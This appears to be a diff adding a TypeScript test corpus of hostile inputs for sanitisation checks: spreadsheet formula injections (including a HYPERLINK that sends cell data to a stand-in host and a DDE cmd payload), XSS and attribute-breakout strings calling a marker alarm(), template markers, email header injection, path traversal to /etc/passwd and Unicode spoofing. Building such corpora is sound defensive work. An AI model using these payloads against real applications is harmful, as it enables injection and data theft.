@@ -1,0 +1,37 @@
+/** What people paste, scanners name and the ill-willed try, each with a call of `alarm()` where something could run it. */
+export const corpus: readonly { readonly name: string; readonly text: string }[] = [
+  { name: 'a formula', text: '=HYPERLINK("http://contoh.example/?"&A1,"klik")' },
+  { name: 'a formula that fetches', text: '=IMPORTXML("http://contoh.example","//a")' },
+  { name: 'a formula with plus', text: "+cmd|' /C calc'!A0" },
+  { name: 'a formula with minus', text: '-2+3+cmd' },
+  { name: 'a formula with at', text: '@SUM(1+1)*cmd' },
+  { name: 'a formula after a tab', text: '\t=1+1' },
+  { name: 'a formula after spaces', text: '   =1+1 setelah spasi' },
+  { name: 'a formula after a zero-width space', text: '\u200b=1+1' },
+  { name: 'a full-width formula', text: '\uff1d1+1' },
+  { name: 'a formula behind quotes', text: '"=1+1",\'=2+2' },
+  { name: 'a script', text: '<script>alarm()</script>' },
+  { name: 'the end of a script', text: '</script><script>alarm()</script>' },
+  { name: 'an image', text: '<img src=x onerror=alarm()>' },
+  { name: 'a drawing', text: '<svg onload=alarm()><a xlink:href="javascript:alarm()">x</a></svg>' },
+  { name: 'a way out of double quotes', text: '" autofocus onfocus="alarm()' },
+  { name: 'a way out of single quotes', text: "' autofocus onfocus='alarm()" },
+  { name: 'a way out of a text area', text: '</textarea></title></style><img src=x onerror=alarm()>' },
+  { name: 'the end of a comment', text: '--><img src=x onerror=alarm()><!--' },
+  { name: 'marked data', text: ']]><x:script xmlns:x="http://www.w3.org/1999/xhtml">alarm()</x:script>' },
+  { name: 'an entity', text: '&lt;script&gt;alarm()&lt;/script&gt; &#x3c;b&#x3e;' },
+  { name: 'marks of a template', text: '${alarm()} {{alarm()}} <?= alarm() ?> <% alarm() %> #{alarm()}' },
+  { name: 'lines of a mail', text: 'Laporan\r\nBcc: orang.lain@example.com\r\n\r\nIsi lain' },
+  { name: 'an encoded word', text: '=?utf-8?B?QmNjOiBvcmFuZy5sYWluQGV4YW1wbGUuY29t?=' },
+  { name: 'a path', text: '../../../etc/passwd ..\\..\\windows' },
+  { name: 'a reserved name', text: 'CON.pdf. . .' },
+  { name: 'the way backwards', text: 'Laporan \u202efdp.exe\u202c' },
+  { name: 'a flood of accents', text: `Z${'\u0335\u0489\u0300'.repeat(40)}algo` },
+  { name: 'half of a character', text: 'Berkas \ud83d rusak' },
+  { name: 'a mark of byte order', text: '\ufeff=1+1 \ufeff' },
+  { name: 'a name of JavaScript', text: '__proto__ constructor toString' },
+  { name: 'lines of JavaScript', text: 'satu\u2028dua\u2029tiga' },
+];
+
+/** Said by a script that got through. */
+export const ALARM = 'alarm';
